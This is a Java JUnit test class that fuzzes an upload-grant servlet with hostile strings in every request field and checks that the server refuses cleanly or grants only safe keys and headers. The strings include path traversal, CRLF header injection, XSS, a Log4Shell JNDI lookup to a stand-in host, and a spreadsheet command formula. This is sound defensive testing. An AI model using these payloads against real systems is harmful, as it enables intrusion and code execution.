package io.uploadgrants.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

@ParameterizedClass
@EnumSource
class HostileTextTests {

  private static final List<String> PROFILES = List.of("any", "form", "avatar", "folder");

  private final TestServer server;

  HostileTextTests(Container container) {
    server = TestServer.shared(container, TestGrants.class, TestGrants::servlet);
  }

  /** Texts as they stand between the quotes in JSON. */
  static Stream<String> texts() {
    return Stream.of(
        "..",
        "../../etc/passwd",
        "/",
        "//",
        "./",
        "\\\\",
        "..\\\\..",
        "\\u0000",
        "a\\u0000b",
        "\\r\\n",
        "a\\r\\nSet-Cookie: evil=1",
        "\\u0085\\u2028\\u2029",
        "%2F",
        "%2e%2e%2f",
        "%00",
        "*",
        "?",
        "${filename}",
        "${aws:username}",
        "#{7*7}",
        "\\\"",
        "\\\"}],\\\"x\\\":[{",
        "'",
        "<script>alert(1)</script>",
        "\\u003c/script>",
        "\ud83d\ude00",
        "\\ud83d\\ude00",
        "\ud83d\ude00".repeat(40) + "x",
        "x" + "\ud83d\ude00".repeat(300),
        "\u202egnp.exe",
        "\u200f\u2066\u2069\ufeff",
        "\\ud800",
        "\\udc00",
        "a\\ud800b",
        "\\udc00\\ud800",
        "\\ud800\\ud800",
        "x".repeat(79) + "\\ud83d\\ude00",
        "\ufffe\uffff",
        "\\ufffe",
        "e\u0301".repeat(400),
        " ",
        "  ",
        "\\t",
        "%s%n%d",
        "{} {}",
        "${jndi:ldap://evil.example/a}",
        "=cmd|' /C calc'!A0",
        "a;b=c,d",
        "x".repeat(10_240),
        "\u00fc".repeat(10_240),
        "\\ud800".repeat(10_240));
  }

  @ParameterizedTest
  @MethodSource("texts")
  void hostileTextInAnyMemberIsGrantedOrRefusedButNeverFails(String text) {
    RecordedLogs.clear();
    for (String profile : PROFILES) {
      String start = "{\"profile\":\"" + profile + "\",";
      check(start + "\"fileName\":\"" + text + "\"}");
      check(start + "\"size\":5,\"contentType\":\"image/png\",\"fileName\":\"" + text + "\"}");
      check(start + "\"contentType\":\"" + text + "\"}");
      check(start + "\"contentType\":\"image/" + text + "\"}");
      check(start + "\"contentType\":\"image/png;a=\\\"" + text + "\\\"\"}");
      check(start + "\"kind\":\"" + text + "\"}");
      check(start + "\"size\":\"" + text + "\"}");
      check(start + "\"checksum\":\"" + text + "\"}");
      check(start + "\"checksum\":{\"algorithm\":\"" + text + "\",\"value\":\"x\"}}");
      check(start + "\"checksum\":{\"algorithm\":\"SHA256\",\"value\":\"" + text + "\"}}");
      check(start + "\"metadata\":{\"" + text + "\":\"" + text + "\"}}");
      check(start + "\"" + text + "\":\"" + text + "\"}");
    }
    check("{\"profile\":\"" + text + "\"}");
    assertThat(RecordedLogs.ours()).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("texts")
  void aHostileSubjectIsGrantedOrRefusedButNeverLeavesItsPlace(String escaped) {
    String subject = escaped.substring(0, Math.min(escaped.length(), 1_200));
    Answered answer = server.post(subject, "{\"profile\":\"any\"}");

    checked(answer);
    if (answer.status() == 201) {
      assertThat(answer.json().path("key").asString())
          .matches(
              "any/[A-Za-z0-9_-][A-Za-z0-9._!-]*/2026/11/24/[0-9a-f]{32}|any/![^/]*/2026/11/24/[0-9a-f]{32}");
    }
  }

  private void check(String body) {
    checked(server.post(body));
  }

  private static void checked(Answered answer) {
    if (answer.status() == 201) {
      JsonNode grant = answer.grant();
      assertThat(grant.path("key").asString())
          .matches("[A-Za-z0-9._!/-]+|folders/alice/[0-9a-f]{32}/\\$\\{filename}")
          .doesNotMatch("(.*/)?\\.{0,2}(/.*)?");
      texts(grant.path("headers")).forEach(HostileTextTests::isHeader);
      return;
    }
    assertThat(answer.status()).as(answer.text()).isBetween(400, 499);
    answer.problem(answer.status(), answer.json().path("code").asString());
    assertThat(answer.length()).isLessThan(4_000);
    answer.headers().values().forEach(values -> values.forEach(HostileTextTests::isHeader));
  }

  private static Stream<String> texts(JsonNode object) {
    ObjectNode none = JsonNodeFactory.instance.objectNode();
    return (object.isObject() ? object : none).values().stream().map(JsonNode::asString);
  }

  private static void isHeader(String value) {
    assertThat(value.chars().allMatch(c -> c >= ' ' && c < 0x7f)).as(value).isTrue();
  }
}
